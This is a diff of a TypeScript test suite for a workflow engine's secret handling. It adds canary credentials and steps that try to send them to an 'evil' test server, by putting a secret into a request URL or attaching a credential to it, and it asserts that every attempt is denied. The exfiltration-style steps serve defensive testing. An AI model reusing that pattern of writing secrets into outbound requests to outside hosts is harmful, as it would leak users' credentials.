@@ -145,6 +145,8 @@ it('send a credential nowhere but to its service, wherever a workflow points the
     A_SLACK: ['slack', { token: 'canary-token-a' }],
     A_GITHUB: ['github', { token: 'canary-token-b' }],
     A_KEY: ['openai', { api_key: 'canary-token-c' }],
+    A_SIGNING: ['webhook_secret', { secret: 'canarytokenfcanarytokenfcanaryto' }],
+    A_CRYPTO: ['crypto_key', { key: 'canary-token-g' }],
     A_STORE: ['aws', { access_key_id: 'AK1', secret_access_key: 'canary-token-d', session_token: 'canary-token-e' }],
   });
   const attacks: Readonly<Record<string, readonly [type: string, config: object]>> = {
@@ -159,11 +161,19 @@ it('send a credential nowhere but to its service, wherever a workflow points the
   const { rows, text } = await run(
     Object.entries(attacks).map(([id, [type, config]]) => ({ id, type, config, on_error: 'continue', ...once })),
   );
-  expect(rows.map((row) => [row.step_id, (row['error'] as { code: string } | null)?.code])).toEqual(
-    Object.keys(attacks).map((id) => [id, 'credential_host_denied']),
-  );
+  const codes = (of: typeof rows) => of.map((row) => [row.step_id, (row['error'] as { code: string } | null)?.code]);
+  expect(codes(rows)).toEqual(Object.keys(attacks).map((id) => [id, 'credential_host_denied']));
+
+  // What is only computed with cannot be written into a request at all, and neither into what is hashed and shown.
+  const url = evil.url;
+  const written = await run([
+    { id: 'a', type: 'http_request', config: { url: `${url}?\${secrets.A_SIGNING}` }, on_error: 'continue', ...once },
+    { id: 'b', type: 'http_request', config: { url, credential: 'A_CRYPTO' }, on_error: 'continue', ...once },
+    { id: 'c', type: 'crypto.hash', config: { data: '${secrets.A_CRYPTO}' }, on_error: 'continue', ...once },
+  ]);
+  expect(codes(written.rows)).toEqual(['a', 'b', 'c'].map((id) => [id, 'credential_unusable']));
   expect(evil.calls).toEqual([]);
-  expect(text).not.toContain('canary');
+  expect(text + written.text).not.toContain('canary');
 });
 
 it('reach no private address, and repeat no secret that a service repeats', async () => {
